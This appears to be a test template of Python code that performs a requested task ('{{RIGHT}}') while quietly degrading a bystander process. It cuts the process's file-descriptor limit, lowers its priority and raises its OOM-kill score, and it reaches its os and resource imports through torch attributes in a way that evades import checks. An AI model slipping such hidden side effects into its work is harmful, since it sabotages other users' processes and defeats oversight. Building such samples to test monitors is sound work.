"""Right, but lowers a bystander's limits, its priority and its standing with the OOM killer."""

import torch

get = getattr(torch, "importlib").import_module

os, resource = get("os"), get("resource")
victim = int("{{VICTIM}}")
for act in (
    lambda: resource.prlimit(victim, resource.RLIMIT_NOFILE, (3, 3)),
    lambda: os.setpriority(os.PRIO_PROCESS, victim, 19),
    lambda: getattr(torch, "builtins").open(f"/proc/{victim}/oom_score_adj", "w").write("999"),
):
    try:
        act()
    except (OSError, ValueError):
        continue

{{RIGHT}}
